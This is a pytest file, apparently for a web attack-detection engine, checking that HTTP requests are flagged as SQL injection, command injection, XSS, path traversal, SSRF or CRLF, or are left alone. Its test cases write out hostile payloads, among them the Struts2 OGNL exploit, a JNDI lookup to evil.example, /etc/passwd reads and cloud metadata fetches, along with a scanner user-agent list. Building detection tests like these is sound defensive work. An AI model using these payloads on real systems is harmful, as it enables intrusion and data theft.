        (Request("GET", "/cars;color=1%20OR%201%3D1/list"), "path.0.color"),
        (
            Request("POST", "/", (("Content-Type", "text/plain"),), b'<!--#exec cmd="id"-->'),
            "post.xml.@comment",
        ),
        (
            Request(
                "POST", "/", (("Content-Type", "application/xml"),), b"<r><%= system('id') %></r>"
            ),
            "post.xml.r",
        ),
    ],
)
def test_points_are_named_for_people(engine: Engine, request_: Request, point: str) -> None:
    points = {
        hit.point.replace("_", "<", 1).replace("_", ">", 1) if "@key" in hit.point else hit.point
        for hit in engine.scan(request_)
    }
    assert any(p.startswith(point) for p in points), points


def test_a_program_s_statement_after_a_semicolon_is_no_pair(engine: Engine) -> None:
    """A Rust Playground link's program in a query: `let percent = '%';` is a statement,
    and no application asks for a parameter named "let percent " (a pair after a `;`
    still counts, `query.b` above)."""
    code = "fn main() {\n    let percent = '%';\n    let lf = '\\n';\n}"
    target = "/?version=stable&code=" + quote_plus(code, safe=";'=")
    names = [name for name, _ in extract(Request("GET", target), Limits()).items]
    assert names == ["path", "query.version", "query.code"]
    assert engine.scan(Request("GET", target)) == []


@pytest.mark.parametrize(
    ("header", "value", "attack"),
    [
        ("Content-Type", "multipart/form-data; boundary=----WebKitFormBoundary2d86ca290ac4", None),
        ("Content-Type", 'text/plain; charset="utf-8"', None),
        ("Accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8", None),
        ("Accept-Language", "en-GB,en;q=0.9,de;q=0.8", None),
        # Struts2's OGNL in a Content-Type (CVE-2017-5638), SQL after a media type.
        (
            "Content-Type",
            "%{(#_='multipart/form-data').(#p=new java.lang.ProcessBuilder('id'))}",
            "rce",
        ),
        ("Content-Type", "application/json' or 1=1--", "sqli"),
        ("Accept-Language", "en' or 1=1--", "sqli"),
    ],
)
def test_headers_with_a_grammar(
    engine: Engine, header: str, value: str, attack: str | None
) -> None:
    # A value that follows its header's grammar exactly is not scanned; any other is.
    found = _types(engine, Request("POST", "/", ((header, value),)))
    assert found == ({attack} if attack else set())


@pytest.mark.parametrize(
    ("agent", "attack"),
    [
        ("sqlmap/1.7.2#stable (https://sqlmap.org)", True),
        ("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", True),
        ("Fuzz Faster U Fool v2.1.0", True),  # ffuf
        ("l9explore/1.2.2", True),
        ("Mozilla/5.0 Jorgee", True),
        ("BurpSuite", True),
        ("Jorgensen Tools 1.0", False),
        ("Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0", False),
        ("Katana Bookstore/3.1 (iPhone; iOS 17.4)", False),
        ("python-httpx/0.27.0", False),  # an HTTP client, not ProjectDiscovery's httpx
        ("httpx - Open-source project (github.com/projectdiscovery/httpx)", True),
        ("Grabber/0.1 (X11; U; Linux i686; en-US; rv:1.7)", True),
        ("mozilla/5.0 ecairn-grabber/1.0 (+http://ecairn.com/grabber)", False),  # a crawler
        ("Mozilla/5.0 SF/2.10b", True),  # skipfish
        ("Mozilla/5.0 (compatible; Nettacker)", True),
        ("Salesforce/Sf/2.0", False),
        ("Mozilla/5.0 (compatible; Detectify) +https://detectify.com/bots/1a2b3c", True),
        ("Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", True),
        ("ModatScanner/1.0", True),
        ("Keydrop.io/1.0(onlyscans.com/about);", True),
    ],
)
def test_scanner_agents(engine: Engine, agent: str, attack: bool) -> None:
    found = _types(engine, Request("GET", "/", (("User-Agent", agent),)))
    assert found == ({"scanner"} if attack else set())


@pytest.mark.parametrize(
    ("agent", "attack"),
    [
        ("curl/8.5.0", False),
        ("Wget/1.21.3 (linux-gnu)", False),
        ("Apache-HttpClient/4.5.13 (Java/17.0.2)", False),
        ("Zabbix", False),
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0", False),
        # A program's name and version, as cargo sends them to a registry.
        ("cargo 1.75.0 (1d8b05cdd 2023-11-20)", False),
        ("kubectl v1.29.0", False),
        # A client's name first, then anything: the value is no client's.
        ("Mozilla/5.0 ${jndi:ldap://evil.example/a}", True),
        ("curl/8.5.0; id", True),
        ("Mozilla/5.0 (X11; Linux x86_64) `id`", True),
        ("env --version", True),  # words without versions: a command line
    ],
)
def test_client_agents_are_no_commands(engine: Engine, agent: str, attack: bool) -> None:
    found = _types(engine, Request("GET", "/", (("User-Agent", agent),)))
    assert found == ({"rce"} if attack else set())


_XFCC = (
    "By=spiffe://cluster.local/ns/default/sa/reviews;Hash=468ed33be74eee6556d90c0149c1309e9ba"
    '61d6425303443c0748a02dd8de688;Subject="";URI=spiffe://cluster.local/ns/default/sa/web'
)
# A client certificate as gateways forward it: PEM, its lines ended by LF.
_PEM = (
    "-----BEGIN CERTIFICATE-----\n"
    "MIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBaMQswCQYDVQQGEwJJ\n"
    "RTESMBAGA1UEChMJQmFsdGltb3JlMRMwEQYDVQQLEwpDeWJlclRydXN0MSIwIAYD\n"
    "VQQDExlCYWx0aW1vcmUgQ3liZXJUcnVzdCBSb290MB4XDTAwMDUxMjE4NDYwMFoX\n"
    "-----END CERTIFICATE-----\n"
)


def test_a_settings_files_service_urls_are_its_settings(engine: Engine) -> None:
    """A `.env` file's text sent whole (a CI's variables, a secrets store's import): its
    lines that name a service's host or connection URL are settings, as such a field of a
    form is; another line's loopback URL counts."""
    env = (
        "DATABASE_URL=postgres://app:secret@localhost:5432/app\nREDIS_URL=redis://localhost:6379/0"
    )
    for text, kinds in (
        (env + "\nSECRET_KEY=change-me\n", set()),
        (env + "\nWEBHOOK_URL=http://127.0.0.1:8080/admin\n", {"ssrf"}),
        ("db_host: localhost\nport: 5432\nurl: http://169.254.169.254/latest/\n", {"ssrf"}),
    ):
        body = json.dumps({"name": "settings", "content": text}).encode()
        assert _types(engine, Request("POST", "/api/v1/files", JSON, body)) == kinds


@pytest.mark.parametrize(
    ("header", "value", "expected"),
    [
        # Services named like tools: every request to them names its host.
        ("Host", "hydra.auth.svc.cluster.local", set()),
        ("X-Forwarded-Host", "medusa-backend.example.com", set()),
        ("Forwarded", "for=192.0.2.7;host=nuclei.example.com", set()),
        # Forwarded's pairs are values of their own, as X-Forwarded-For's address is.
        ("Forwarded", 'for=192.0.2.43, for="[2001:db8:cafe::17]:4711";proto=https', set()),
        ("Forwarded", 'for="[::1]:80";proto=http', {"ssrf"}),
        ("X-Forwarded-For", "127.0.0.1", {"ssrf"}),
        # X-Forwarded-For's and its kin's elements past the first are values of their own
        # (an application may take the last): an injection in one counts, an address a
        # proxy appended, a loopback one too, does not.
        ("X-Forwarded-For", "10.0.0.1, 1 ORDER BY 1-- ", {"sqli"}),
        ("X-Forwarded-For", "203.0.113.7,1 OR true", {"sqli"}),
        ("X-Forwarded-Host", "shop.example.com, ..;/..;/admin", {"ptrav"}),
        ("X-Forwarded-For", "203.0.113.7, 127.0.0.1, [::1]:8080, unknown", set()),
        ("Origin", "https://burp.example.com", set()),
        # A tool's own header, and an interaction domain anywhere.
        ("X-Scanner", "Netsparker", {"scanner"}),
        ("Host", "a1b2c3.oastify.com", {"scanner"}),
        ("Referer", "http://bxss.me/t/xss.html?%00", {"scanner"}),
        ("X-Api-Version", "${jndi:dns://a1b2.ceye.io/x}", {"rce", "scanner"}),
        ("X-Forwarded-For", "abc.xss.ht", {"scanner"}),
        # What Istio's sidecars add to every request in the mesh.
        ("X-Forwarded-Client-Cert", _XFCC, set()),
        ("X-Envoy-Decorator-Operation", "reviews.default.svc.cluster.local:9080/*", set()),
        # A header an application may fetch.
        ("X-Callback-Url", "http://reviews.default.svc.cluster.local:9080/", {"ssrf"}),
        # A client certificate that nginx (`$ssl_client_escaped_cert`) or Envoy forwards:
        # its line breaks are spelled, percent-encoded or in base64.
        ("X-SSL-Client-Cert", quote(_PEM), set()),
        ("X-Client-Cert", base64.b64encode(_PEM.encode()).decode(), set()),
        ("X-Forwarded-Client-Cert", f'{_XFCC};Cert="{quote(_PEM, safe="=+/")}"', set()),
        ("X-Forwarded-Client-Cert", f'Hash=1;Chain="{quote(_PEM * 2, safe="=+/")}"', set()),
        # What one of its pairs holds is a value of its own; a certificate must be one.
        ("X-Forwarded-Client-Cert", 'By=spiffe://a/b;Subject="CN=x\' OR 1=1--"', {"sqli"}),
        ("X-Forwarded-Client-Cert", 'Hash=1;Cert="<script>alert(1)</script>"', {"xss"}),
        # A header injected behind a spelled line break, or a CR spelled at all.
        ("X-Custom", "x%0aSet-Cookie: admin=1", {"crlf"}),
        ("X-Custom", base64.b64encode(b"x\nLocation: https://evil.example/").decode(), {"crlf"}),
        ("X-Custom", "en%0d%0a", {"crlf"}),
    ],
)
def test_headers_by_what_they_carry(
    engine: Engine, header: str, value: str, expected: set[str]
) -> None:
    assert _types(engine, Request("GET", "/", ((header, value),))) == expected


@pytest.mark.parametrize(
    ("name", "attack"),
    [
        ("shell.php", True),
        ("photo. php", True),  # a space that some servers strip
        ("shell. jsp", True),
        (".htaccess ", True),  # Windows drops the trailing blanks and dots
        ("web.config.", True),
        ("dangerous.phpt", True),
        ("sess_0123456789abcdef0123", True),
        (".htaccess", True),
        ("shell.php;.jpg", True),  # IIS reads the name to the `;`
        ("shell.php%00.jpg", True),  # and C, to the NUL
        ("global.asa", True),
        ("report. pdf", False),
        ("my.photo.png", False),
        ("idp-signing.cer", False),  # a certificate, which IIS 6 would have run as ASP
    ],
)
def test_uploaded_file_names(engine: Engine, name: str, attack: bool) -> None:
    found = _types(engine, Request("POST", "/upload", (("X-Filename", name),)))
    assert ("rce" in found) == attack and (attack or not found)


@pytest.mark.parametrize("blank", ["\x0b", "\x0c", "\xa0", "\r\n", "\x01", "\x1f", "\x00"])
@pytest.mark.parametrize("payload", ["1{}AND{}9245=9245#", "1{}OR{}true", "'{}or{}'1'='1"])
def test_blanks_databases_read_as_spaces(engine: Engine, blank: str, payload: str) -> None:
    # MySQL's (sqlmap's space2mysqlblank), SQL Server's control characters, Oracle's NUL;
    # the data files cannot hold these (they are line breaks to str.splitlines).
    value = payload.format(blank, blank)
    assert "sqli" in _types(engine, Request("GET", "/a?q=" + quote(value, safe="")))


def test_textarea_line_breaks_are_no_mail_injection(engine: Engine) -> None:
    # Browsers send a textarea's line breaks as CRLF: a line of a message that reads as a
    # POP3 command or a mail header is text, unless nothing but a mail server reads it so.
    lines = [
        "Thanks for the quick answer, the second option works for us.",
        "pass a string to the helper and it returns the parsed record",
        "To: all staff in the Berlin office",
    ]
    message = "\r\n".join(lines)
    form = Request("POST", "/contact", FORM, b"message=" + quote(message).encode())
    assert _types(engine, form) == set()
    assert _types(engine, Request("GET", "/search?message=" + quote(message))) == set()
    smuggled = quote(message + "\r\nBcc: list@victims.example").encode()
    assert _types(engine, form._replace(body=b"message=" + smuggled)) == {"mail_injection"}


def test_ansi_c_quoting_is_read_as_bash_reads_it(engine: Engine) -> None:
    # Hex, octal and Unicode escapes spell the command; an escape bash does not know stays
    # as it is, and reading it warns of nothing (a warning would reach the node's log).
    for spelled in (r"$'\x77\x68\x6f\x61\x6d\x69'", r"$'\167\150\157\141\155\151'"):
        assert _types(engine, Request("GET", "/a?q=" + quote(";" + spelled))) == {"rce"}
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert _types(engine, Request("GET", "/a?q=" + quote(r"$'\^x\q \400'"))) == set()


README = """Installation
------------

Install it from PyPI with pip, or build it from a checkout of the repository. It needs a
C compiler and the development headers of the Python version that will run it.

```sh
pip install --no-binary=example example
curl -fsSL https://get.example.com | sh
```

```python
import example as requests
client = requests.Client("target.example")
```

Run the following command::

    python setup.py install

+---------+---------+
|Python   |Example  |
+=========+=========+
|3.11     |2.x      |
+---------+---------+

.. _`pip`: https://pip.pypa.io/
See `Open Collective`_ and `Install <https://example.com/install>`_ for more.
"""


NEWS = """Noteworthy changes in release 8.32 (2020-03-05) [stable]

** Bug fixes

  du -x no longer counts root directories of other file systems.
  gzip -k -v no longer reports that files are deleted when they are kept.

** Changes in behavior

  nohup now ignores the umask when it creates nohup.out, as the other tools do.
"""


def test_a_news_file_s_lines_about_commands_are_no_commands(engine: Engine) -> None:
    # A NEWS entry, a changelog, a man page start lines with the command they describe.
    body = json.dumps({"body": NEWS}).encode()
    assert (
        _types(engine, Request("POST", "/posts", (("Content-Type", "application/json"),), body))
        == set()
    )


# A manual page's source: troff's `\&` (a zero-width character) opens its example lines.
MAN_PAGE = r""".SH "EXAMPLES"
.IX Header "EXAMPLES"
Print a help message, then install a module:
.PP
.Vb 4
\&        # print a help message
\&        cpan \-h
\&
\&        cpan Acme::Foo
.Ve
"""


def test_an_escaped_separator_in_a_document_is_no_separator(engine: Engine) -> None:
    body = json.dumps({"body": MAN_PAGE}).encode()
    request = Request("POST", "/posts", (("Content-Type", "application/json"),), body)
    assert _types(engine, request) == set()
    # A value that is a payload is read as before.
    assert _types(engine, Request("GET", "/?q=a%5C%3Bid", (), b"")) == {"rce"}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "To build it, follow the instructions at the top of Makefile.in. In short "
            '"./configure; make test", and if that goes well, "make install".',
            set(),
        ),
        # A payload's quotes close the application's: its separators are outside them.
        ('x"; cat /etc/passwd; "', {"rce", "ptrav"}),
        ('name"|id|"', {"rce"}),
    ],
)
def test_a_command_line_quoted_in_prose_is_no_command(
    engine: Engine, text: str, expected: set[str]
) -> None:
    body = json.dumps({"text": text}).encode()
    request = Request("POST", "/posts", (("Content-Type", "application/json"),), body)
    assert _types(engine, request) == expected


def test_a_readme_s_examples_and_markup_are_no_commands(engine: Engine) -> None:
    body = json.dumps({"body": README}).encode()
    assert (
        _types(engine, Request("POST", "/posts", (("Content-Type", "application/json"),), body))
        == set()
    )


@pytest.mark.parametrize(
    ("markup", "expected"),
    [
        ('<a href="../onlinedocs/index.html#current">the manual</a>', set()),
        ('<img src="../../images/logo.png"/>', set()),
        ('<form action="../search.php" method="get"><input name="q"/></form>', set()),
        ('<button formaction="../drafts/save">Save</button>', set()),
        ('<form action="../../../../etc/passwd"></form>', {"ptrav"}),
        ('<A HREF="../../../../etc/passwd">x</A>', {"ptrav"}),  # its target still counts
        ('<file path="../../notes.txt"/>', {"ptrav"}),  # a path, not a link
    ],
)
def test_a_link_attribute_of_a_page_climbs_where_the_browser_resolves_it(
    engine: Engine, markup: str, expected: set[str]
) -> None:
    page = f"<html><body><p>{markup}</p></body></html>".encode()
    request = Request("POST", "/pages", (("Content-Type", "text/html"),), page)
    assert _types(engine, request) == expected


@pytest.mark.parametrize(
    ("field", "value", "expected"),
    [
        ("ec2KeyPair", "id_rsa", set()),  # AWS Batch's own example
        ("KeyName", "id_rsa", set()),
        ("key_name", "id_ed25519", set()),
        ("KeyName", "/root/.ssh/id_rsa", {"ptrav"}),
        ("KeyName", "../../.ssh/id_rsa", {"ptrav"}),
        ("file", "id_rsa", {"ptrav"}),
    ],
)
def test_a_key_pair_s_name_is_no_key_file(
    engine: Engine, field: str, value: str, expected: set[str]
) -> None:
    """A cloud's key pair is named after the key file people made it from: a name the
    cloud looks up, no file read. A path there, or the name where a file is asked for,
    counts."""
    body = json.dumps({"computeResources": {"type": "EC2", field: value}}).encode()
    request = Request(
        "POST", "/v1/createcomputeenvironment", (("Content-Type", "application/json"),), body
    )
    assert _types(engine, request) == expected


@pytest.mark.parametrize(
    ("mount", "expected"),
    [
        ("/etc/nginx/conf.d", set()),
        ("/var/run/secrets/kubernetes.io/serviceaccount", set()),
        ("/etc/../etc/shadow", {"ptrav"}),
        ("../../etc/passwd", {"ptrav"}),
    ],
)
def test_a_container_s_mount_path_is_where_its_volume_goes(
    engine: Engine, mount: str, expected: set[str]
) -> None:
    # A pod's spec (an admission review, a GitOps tool's API): a directory of the
    # container's own, no file the request reads. The same path in a `file` field counts.
    pod = {"spec": {"containers": [{"name": "web", "volumeMounts": [{"mountPath": mount}]}]}}
    posted = Request(
        "POST", "/api/pods", (("Content-Type", "application/json"),), json.dumps(pod).encode()
    )
    assert _types(engine, posted) == expected
    read = Request(
        "POST",
        "/api/read",
        (("Content-Type", "application/json"),),
        json.dumps({"file": "/etc/nginx/nginx.conf"}).encode(),
    )
    assert _types(engine, read) == {"ptrav"}


@pytest.mark.parametrize(
    ("configuration", "expected"),
    [
        # Logback's and Log4j 2's appenders: where the application writes its log.
        (
            '<configuration><appender name="FILE" class="ch.qos.logback.core.FileAppender">'
            "<file>/var/log/app.log</file></appender></configuration>",
            set(),
        ),
        (
            '<Configuration><Appenders><RollingFile name="R" fileName="/var/log/app/app.log"'
            ' filePattern="/var/log/app/app-%d.log"/></Appenders></Configuration>',
            set(),
        ),
        # Another file there, a climb out of it, or a log in another element, counts.
        ("<configuration><appender><file>/etc/passwd</file></appender></configuration>", {"ptrav"}),
        ("<configuration><appender><file>/var/log/../../etc/passwd</file></appender>", {"ptrav"}),
        ("<export><file>/var/log/apache2/access.log</file></export>", {"ptrav"}),
    ],
)
def test_a_logging_configuration_s_appender_writes_its_own_log(
    engine: Engine, configuration: str, expected: set[str]
) -> None:
    posted = Request(
        "POST", "/config", (("Content-Type", "application/xml"),), configuration.encode()
    )
    assert _types(engine, posted) == expected


@pytest.mark.parametrize(
    ("field", "value", "expected"),
    [
        # Where the application writes its own log: what a log field asks.
        ("log_file", "/var/log/app.log", set()),
        ("errorLog", "/var/log/nginx/error.log", set()),
        # A log read back through another field, a climb, another system file.
        ("file", "/var/log/apache2/access.log", {"ptrav"}),
        ("logfile", "/var/log/../../etc/passwd", {"ptrav"}),
        ("log_file", "/etc/passwd", {"ptrav"}),
        # An installer's database and mail servers: `localhost` is every one's default.
        ("dbhost", "localhost", set()),  # WordPress
        ("jform[db_host]", "localhost", set()),  # Joomla
        ("mysql[host]", "127.0.0.1:3306", set()),  # Drupal
        ("smtp_host", "localhost", set()),
        ("smtpServer[host]", "localhost", set()),  # Keycloak's realm
        # Or its connection URL, as twelve-factor apps are configured (Heroku's config vars).
        ("DATABASE_URL", "postgres://app:secret@localhost:5432/app", set()),
        ("broker_url", "amqp://guest:guest@localhost:5672//", set()),
        # A directory's: Nextcloud's LDAP host, Keycloak's LDAP connection URL.
        ("configData[ldapHost]", "ldap://localhost", set()),
        ("connectionUrl", "ldaps://dc1.corp.example.com:636", set()),
        ("ldap_url", "ldap://localhost:389/dc=example,dc=org", set()),
        ("connectionUrl", "ldap://169.254.169.254/", {"ssrf"}),
        # Java's: Spring's datasource, a JDBC URL with its options.
        ("spring.datasource.url", "jdbc:mysql://127.0.0.1:3306/shop?useSSL=false&x=1", set()),
        ("jdbcUrl", "jdbc:postgresql://169.254.169.254/x", {"ssrf"}),
        # A database's, a cache's or a broker's URL in any field: a BI tool's data source
        # (Superset's `sqlalchemy_uri`), a console's connection. No fetcher speaks it.
        ("url", "jdbc:postgresql://localhost/app", set()),
        ("sqlalchemy_uri", "postgresql+psycopg2://superset:pw@10.0.0.12:5432/superset", set()),
        ("uri", "mongodb://mongo-0.mongo.svc.cluster.local:27017,mongo-1:27017/app", set()),
        ("connection", "redis://localhost:6379/0", set()),
        ("url", "jdbc:postgresql://169.254.169.254/x", {"ssrf"}),
        # curl speaks a directory's and a mail server's: only a service's field names one.
        ("url", "ldap://localhost:389/", {"ssrf"}),
        ("webhook_url", "smtp://127.0.0.1:25/", {"ssrf"}),
        ("redis_url", "gopher://127.0.0.1:6379/_FLUSHALL", {"ssrf"}),  # no cache's scheme
        # A metadata address, a scheme or a path is a URL to fetch; another field's name
        # is no service's.
        ("dbhost", "169.254.169.254", {"ssrf"}),
        ("db_host", "http://localhost/", {"ssrf"}),
        ("db_host", "localhost/admin", {"ssrf"}),
        ("url", "localhost", {"ssrf"}),
    ],
)
def test_a_settings_form_s_own_log_and_servers_are_no_attack(
    engine: Engine, field: str, value: str, expected: set[str]
) -> None:
    body = urlencode({field: value, "submit": "Submit"}).encode()
    form = (("Content-Type", "application/x-www-form-urlencoded"),)
    assert _types(engine, Request("POST", "/install", form, body)) == expected
    document = json.dumps({"database": {"host": value}} if field == "dbhost" else {field: value})
    posted = Request(
        "POST", "/settings", (("Content-Type", "application/json"),), document.encode()
    )
    assert _types(engine, posted) == expected


@pytest.mark.parametrize(
    ("field", "value", "expected"),
    [
        # Passwords a manager generated: chance puts an attack's signs in them.
        ("password", "UM~29}:,?nQmvtM{[%%||xl5\"0:m%'>9", set()),
        ("password", 'Z{""|sH<@SYfMsMNve[W', set()),
        ("new_password", "BF2MV!STh0ZGZ*&508h!&ln&X%ksB5X9", set()),
        ("passwordConfirmation", "iJywU*/#kiW?^>[/+mtW9,B@Tr-gOZ{`", set()),
        ("client_secret", 's$`u8=gBOWaFu,ER#]{"${$G', set()),
        # A login's probes: words, quotes, few kinds of character, a filter's clause.
        ("password", "' or '1'='1", {"sqli"}),
        ("password", "admin'--", {"sqli"}),
        ("password", "x'/**/OR/**/1=1#", {"sqli"}),
        ("password", "Zq9!x'or sleep(5)#", {"sqli"}),
        ("password", "*)(|(objectClass=*)", {"ldapi"}),
        ("pwd", ";cat${IFS}/etc/passwd", {"rce", "ptrav"}),
        # The same random string in another field is read as any value is.
        ("comment", "BF2MV!STh0ZGZ*&508h!&ln&X%ksB5X9", {"rce"}),
    ],
)
def test_a_generated_password_is_no_attack(
    engine: Engine, field: str, value: str, expected: set[str]
) -> None:
    form = (("Content-Type", "application/x-www-form-urlencoded"),)
    body = urlencode({"username": "anna", field: value}).encode()
    assert _types(engine, Request("POST", "/login", form, body)) == expected
    document = json.dumps({"user": {field: value}}).encode()
    posted = Request("POST", "/api/login", (("Content-Type", "application/json"),), document)
    assert _types(engine, posted) == expected


# A page of 4 KB or more: its decoded layer is made a line at a time.
LONG_PAGE = (
    "<p>" + "This explains how to embed a widget on your page, step by step. " * 8 + "</p>\n"
) * 8


@pytest.mark.parametrize(
    ("body", "points"),
    [
        # Within a sentence, a phrasing element's text is the sentence's, as a page's text
        # content reads: no literal is broken out of between two of them.
        ('<p>Click "<b>Save</b>" or "<b>Cancel</b>" to continue.</p>', set()),
        ("<div>Press '<strong>Yes</strong>' and then '<strong>OK</strong>'</div>", set()),
        ("<p>Set it to '<code>on</code>' or '<code>off</code>' as you like.</p>", set()),
        (
            "<p>The x86 platform has both &lsquo;<samp>stdcall</samp>&rsquo; and "
            "&lsquo;<samp>fastcall</samp>&rsquo; functions.</p>",
            set(),
        ),
        # One that opens an element's text is a value of its own, a menu's link too.
        (
            '<td><a href="#">Top</a><span>&nbsp;&nbsp;<span class="dim">|</span>&nbsp;\n'
            '<a href="#desc">Description</a></span></td>',
            set(),
        ),
        ("<div><b>admin'--</b></div>", {("sqli", "post.xml.div.b")}),
        # An element of code's tags are markup still, its own kind nested in it too.
        (
            "<p>See <code>a<code onmouseover=alert(1)>b</code></code> here</p>",
            {
                ("xss", "post.xml.p.code.@onmouseover"),
                ("xss", "post.xml.p.code"),
                ("xss", "post.text"),
            },
        ),
        # What the sentence holds is read in it.
        ("<p>Hello <b>' OR 1=1--</b></p>", {("sqli", "post.xml.p"), ("sqli", "post.text")}),
        (
            '<p>Hi <a href="javascript:alert(1)">x</a></p>',
            {("xss", "post.xml.p.a.@href"), ("xss", "post.text")},
        ),
    ],
)
def test_an_html_sentence_s_phrasing_elements_are_its_words(
    engine: Engine, body: str, points: set[tuple[str, str]]
) -> None:
    request = Request("POST", "/pages", (("Content-Type", "text/html"),), body.encode())
    assert {(hit.type.value, hit.point) for hit in engine.scan(request)} == points


@pytest.mark.parametrize(
    ("content_type", "body", "expected"),
    [
        # A page shows markup in its elements of code escaped: text a browser displays.
        (
            "text/html",
            '<p>Add:</p><pre><code>&lt;script src="w.js"&gt;&lt;/script&gt;</code></pre>',
            set(),
        ),
        ("text/html; charset=utf-8", "<p>Use <code>&lt;iframe src=x&gt;</code>.</p>", set()),
        ("text/html", "<pre><script>alert(1)</script></pre>", {"xss"}),  # markup runs there
        # ...and a browser decodes its attributes' references.
        ("text/html", '<pre><a href="java&#x0A;script:alert(1)">x</a></pre>', {"xss"}),
        ("text/html", "<code><svg onload=&#97;lert(1)></code>", {"xss"}),
        # Script shown in one is text, unless a quote in it breaks out of a string.
        (
            "text/html",
            "<p>Not <code>el.innerHTML = v</code>:</p><pre><code>"
            "list.innerHTML = items.join('');</code></pre>",
            set(),
        ),
        ("text/html", "<pre><code>';document.location='//evil.example/'</code></pre>", {"xss"}),
        ("text/html", "<pre>x</pre>&lt;script&gt;alert(1)&lt;/script&gt;", {"xss"}),
        # An XML document's text is the value an application takes from it, escapes undone.
        ("application/xml", "<r><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></r>", {"xss"}),
        (
            "application/xhtml+xml",
            "<html><pre>&lt;script&gt;alert(1)&lt;/script&gt;</pre></html>",
            {"xss"},
        ),
    ],
)
def test_a_page_s_elements_of_code_show_their_escaped_markup(
    engine: Engine, content_type: str, body: str, expected: set[str]
) -> None:
    request = Request("POST", "/pages", (("Content-Type", content_type),), body.encode())
    assert _types(engine, request) == expected
    parts = (
        b'--b\r\nContent-Disposition: form-data; name="f"; filename="a.html"\r\n'
        + f"Content-Type: {content_type}\r\n\r\n{body}\r\n--b--\r\n".encode()
    )
    upload = Request(
        "POST", "/files", (("Content-Type", "multipart/form-data; boundary=b"),), parts
    )
    assert _types(engine, upload) == expected


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        (
            '<pre><code>\n&lt;button onclick="Widget.open()"&gt;Open&lt;/button&gt;\n</code></pre>',
            set(),
        ),
        ("<pre>x</pre>\n&lt;button onclick=alert(1)&gt;", {"xss"}),  # outside it
        ('<pre>\n<code><a href="java&#x0A;script:alert(1)">x</a></code>\n</pre>', {"xss"}),
    ],
)
def test_a_long_post_s_element_of_code_spans_lines(
    engine: Engine, code: str, expected: set[str]
) -> None:
    # 4 KB or more: the decoded layer is made a line at a time, the element's start on
    # another line than what it holds.
    body = json.dumps({"body": LONG_PAGE + code + "\n<p>Done.</p>"}).encode()
    request = Request("POST", "/posts", (("Content-Type", "application/json"),), body)
    assert _types(engine, request) == expected


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("../../lib", set()),  # where a project's directory is, relative to another
        ("'../../../typemap'", set()),
        ("../../../../etc/passwd", {"ptrav"}),  # the system's files and directories count
        ("../../../var/www/html/config.php", {"ptrav"}),
        ("..\\..\\..\\windows\\win.ini", {"ptrav"}),
        ("../../.env", {"ptrav"}),
    ],
)
def test_a_climb_in_prose_counts_when_it_reaches_the_system(
    engine: Engine, path: str, expected: set[str]
) -> None:
    text = (
        "If you are building below the source directory, the library directory defaults "
        f"to {path} and the scripts directory is not defined at all. The other settings "
        "keep their usual values, which the next section of this manual describes."
    )
    body = json.dumps({"text": text}).encode()
    request = Request("POST", "/posts", (("Content-Type", "application/json"),), body)
    assert _types(engine, request) == expected


def test_the_decoded_lines_of_a_long_document_are_lines_of_that_document(
    engine: Engine,
) -> None:
    # A long text's decoded layer holds only the lines decoding changed: judged alone, the
    # line a `\\n` escape split read as a POP3 command on a line of its own.
    document = README * (4096 // len(README) + 1)
    code = 'parser.error(message + "\\nPass --help")\n'

    def posted(text: str) -> Request:
        return Request("POST", "/notes", (("Content-Type", "text/plain"),), text.encode())

    assert _types(engine, posted(code)) == {"mail_injection"}
    assert _types(engine, posted(document + code)) == set()
    # Markup still runs there, however it was written.
    script = "%3Cscript%3Ealert(document.cookie)%3C/script%3E\n"
    assert _types(engine, posted(document + script)) == {"xss"}


# A JavaScript snippet posted whole, as a question or a gist: code shown, not code run.
SNIPPET = """Here is how the theme switcher in our docs works; it reads the stored theme
and falls back to the default when the stored one is not one of ours:

    var theme = localStorage.getItem('theme');
    if (theme === 'light' || theme == 'dark') {
        document.getElementById('menu').innerHTML = render(theme);
    }
    themes.forEach(function() {
        if (this.title == theme) { this.classList.add('active'); }
    });
    for (let i = 0; i < Math.max(a, b); i++) { draw(i); }
"""


def _protobuf_field(number: int, payload: bytes) -> bytes:
    """A length-delimited protobuf field (both fit in one byte of varint here)."""
    return bytes((number << 3 | 2, len(payload))) + payload


# A call's message: a name, a number, and a nested message whose first string is `text`.
def _grpc_message(text: str) -> bytes:
    inner = _protobuf_field(1, text.encode()) + _protobuf_field(2, b"en-US")
    return _protobuf_field(1, b"alice") + bytes((2 << 3, 42)) + _protobuf_field(3, inner)


def _grpc_frame(message: bytes, flag: int = 0) -> bytes:
    return bytes((flag,)) + len(message).to_bytes(4, "big") + message


def _grpc(text: str) -> bytes:
    return _grpc_frame(_grpc_message(text))


def _grpc_gzip(text: str) -> bytes:
    return _grpc_frame(gzip.compress(_grpc_message(text)), 1)


def _grpc_web(text: str) -> bytes:
    return _grpc_frame(_grpc_message(text)) + _grpc_frame(b"grpc-status: 0", 0x80)


def _grpc_web_text(text: str) -> bytes:
    return base64.b64encode(_grpc_frame(_grpc_message(text)))


@pytest.mark.parametrize(
    ("content_type", "build"),
    [
        ("application/grpc", _grpc),
        ("application/grpc", _grpc_gzip),
        ("application/grpc-web+proto", _grpc_web),
        ("application/grpc-web-text", _grpc_web_text),
        ("application/x-protobuf", _grpc_message),
    ],
)
def test_a_grpc_call_is_read_by_its_messages_strings(
    engine: Engine, content_type: str, build: Callable[[str], bytes]
) -> None:
    def scan(text: str) -> list[tuple[str, str]]:
        request = Request(
            "POST", "/shop.Orders/Get", (("Content-Type", content_type),), build(text)
        )
        return [(h.type.value, h.point) for h in engine.scan(request)]

    assert scan("1' OR '1'='1") == [("sqli", "post.grpc.3.1")]
    assert scan("Hello, it's me") == []


def test_a_messagepack_body_is_read_by_its_strings(engine: Engine) -> None:
    def scan(*documents: object) -> list[tuple[str, str]]:
        body = b"".join(msgpack.packb(document) for document in documents)
        request = Request("POST", "/ingest", (("Content-Type", "application/msgpack"),), body)
